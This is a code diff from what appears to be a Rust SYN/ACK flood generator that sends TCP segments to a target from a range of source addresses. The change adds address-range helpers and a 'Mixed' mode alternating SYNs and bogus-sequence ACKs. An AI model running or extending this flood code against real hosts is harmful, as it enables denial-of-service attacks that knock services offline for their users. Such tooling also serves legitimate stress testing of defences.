@@ -37,10 +37,21 @@ impl Sources {
         }
     }
 
-    fn last(&self) -> IpAddr {
-        match self {
-            Sources::One(a) => *a,
-            Sources::Range { count, .. } => self.pick(*count as u64 - 1),
+    /// The first address.
+    pub fn first(&self) -> IpAddr {
+        self.pick(0)
+    }
+
+    /// The last address.
+    pub fn last(&self) -> IpAddr {
+        self.pick(self.count() as u64 - 1)
+    }
+
+    /// How many addresses.
+    pub fn count(&self) -> u32 {
+        match *self {
+            Sources::One(_) => 1,
+            Sources::Range { count, .. } => count.max(1),
         }
     }
 }
@@ -62,6 +73,8 @@ pub enum Segments {
     Syn,
     /// ACKs with numbers that belong to no connection: an ACK flood.
     Ack,
+    /// Half SYNs, half such ACKs.
+    Mixed,
 }
 
 /// A flood: SYNs (or ACKs) to `target` from `sources`, at most `count`
@@ -176,9 +189,14 @@ impl Flood {
             _ => anyhow::bail!("source and target families differ"),
         };
         let tcp = builder.tcp(sport, self.target.port(), seq, 64_240);
-        match self.segments {
-            Segments::Syn => tcp.syn().write(&mut buf, &[])?,
-            Segments::Ack => tcp
+        let ack = match self.segments {
+            Segments::Syn => false,
+            Segments::Ack => true,
+            Segments::Mixed => n % 2 == 1,
+        };
+        match ack {
+            false => tcp.syn().write(&mut buf, &[])?,
+            true => tcp
                 .ack(seq.rotate_left(13) ^ 0x5bd1_e995)
                 .write(&mut buf, &[])?,
         }
